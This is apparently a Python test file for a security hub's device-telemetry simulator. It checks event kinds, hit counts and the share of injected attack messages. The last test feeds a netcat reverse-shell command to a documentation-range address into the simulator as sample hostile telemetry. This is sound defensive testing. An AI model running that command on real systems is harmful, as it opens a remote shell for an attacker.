"""Messages of simulated devices are such as the hub takes from real ones."""

import random
from collections import Counter

from vedette.hub.decode import decode
from vedette.hub.simulate.mix import Mix
from vedette.wire.iothub import decode_properties
from vedette.wire.message import Packed

NOW = 1_800_000_000.0


def names(packed: Packed) -> list[str]:
    """The events of a message, by the hub's own decoder, which must find nothing wrong with it."""
    decoded = decode(decode_properties(packed.properties), packed.body)
    assert not decoded.unreadable
    return [reading.name for reading in decoded.readings]


def test_the_hub_reads_every_kind():
    """All kinds come, processes and connections most often."""
    mix = Mix(random.Random(7))
    seen = Counter(name for _ in range(2_000) for name in names(mix.message(NOW)))
    wanted = {"Process", "NetworkActivity", "DNS", "Login", "FileSystem", "Heartbeat", "Statistics"}
    rare = {"Baseline", "SystemInformation", "ListeningPorts", "LocalUsers", "SBoM"}
    assert seen.keys() == wanted | rare
    assert min(seen["Process"], seen["NetworkActivity"]) > seen["DNS"] > seen["Login"]


def test_processes_have_hit_counts():
    """One event stands for several observations."""
    mix = Mix(random.Random(7))
    messages = [mix.message(NOW) for _ in range(200)]
    assert sum(message.hits for message in messages) > 2 * sum(message.events for message in messages)


def test_attacks_come_as_often_as_asked_for():
    """A share of the messages tells of one of the command lines that were given."""
    mix = Mix(random.Random(7), attacks=["nc -e /bin/sh 203.0.113.9 4444"], attack_share=0.25)
    attacks = sum(b"203.0.113.9" in mix.message(NOW).body for _ in range(2_000))
    assert 400 < attacks < 600
